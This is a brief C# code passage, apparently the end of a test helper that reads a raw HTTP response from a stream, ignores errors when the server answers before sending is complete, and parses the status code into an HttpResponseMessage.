        catch (Exception ex) when (ex is IOException or OperationCanceledException or ObjectDisposedException)
        {
            // Sending stopped: the answer came first, as it should.
        }
        var text = Encoding.UTF8.GetString(answer.ToArray());
        var status = text.StartsWith("HTTP/1.1 ", StringComparison.Ordinal) ? int.Parse(text.AsSpan(9, 3), System.Globalization.CultureInfo.InvariantCulture) : 0;
        return new HttpResponseMessage((System.Net.HttpStatusCode)status) { Content = new StringContent(text) };
    }
}
